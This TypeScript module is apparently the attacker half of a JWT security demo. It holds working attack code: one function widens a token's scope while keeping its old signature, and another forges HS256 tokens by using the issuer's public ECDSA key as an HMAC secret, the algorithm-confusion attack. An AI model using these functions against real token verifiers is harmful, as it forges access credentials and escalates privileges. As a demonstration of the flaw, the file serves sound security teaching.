// The attacker's part of the demo.
import { encodeBase64url } from '../base/base64url.ts'
import type { JsonObject } from '../base/json.ts'
import { parseJsonObject } from '../base/json.ts'

/** The same token with more scope, and the signature it had. */
export function widen(token: string): string {
  const [header = '', payload = '', signature = ''] = token.split('.')
  const claims = { ...parseJsonObject(Buffer.from(payload, 'base64url')), scope: 'orders:read orders:write' }
  return [header, encodeBase64url(JSON.stringify(claims)), signature].join('.')
}

/**
 * The same claims under HS256. The secret is what everybody knows: the issuer's public key, as PEM (RFC 8725 §2.1).
 *
 * @param key A P-256 key as its issuer publishes it. Rejects for any other.
 */
export async function confuse(token: string, key: JsonObject): Promise<string> {
  const { subtle } = crypto
  const [, payload = ''] = token.split('.')
  const { kty, crv, x, y, kid } = key
  const jwk = { kty: String(kty), crv: String(crv), x: String(x), y: String(y) }
  const known = await subtle.importKey('jwk', jwk, { name: 'ECDSA', namedCurve: 'P-256' }, true, ['verify'])
  const lines = Buffer.from(await subtle.exportKey('spki', known))
    .toString('base64')
    .replace(/.{1,64}/g, '$&\n')
  const pem = Buffer.from(`-----BEGIN PUBLIC KEY-----\n${lines}-----END PUBLIC KEY-----\n`)
  const secret = await subtle.importKey('raw', pem, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
  const signed = `${encodeBase64url(JSON.stringify({ typ: 'at+jwt', alg: 'HS256', kid }))}.${payload}`
  const signature = await subtle.sign('HMAC', secret, Buffer.from(signed))
  return `${signed}.${encodeBase64url(new Uint8Array(signature))}`
}
